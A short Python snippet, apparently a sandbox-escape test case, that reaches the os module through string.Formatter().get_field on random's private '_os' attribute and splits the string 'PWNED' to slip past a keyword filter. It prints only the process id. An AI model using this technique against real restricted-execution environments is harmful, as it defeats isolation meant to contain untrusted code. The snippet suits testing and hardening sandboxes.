# eval: string.Formatter().get_field returns the object (a refused name)
import string, random
M = "PWN" + "ED"
o = string.Formatter().get_field("0._os", (random,), {})[0]
print(M, o.getpid())
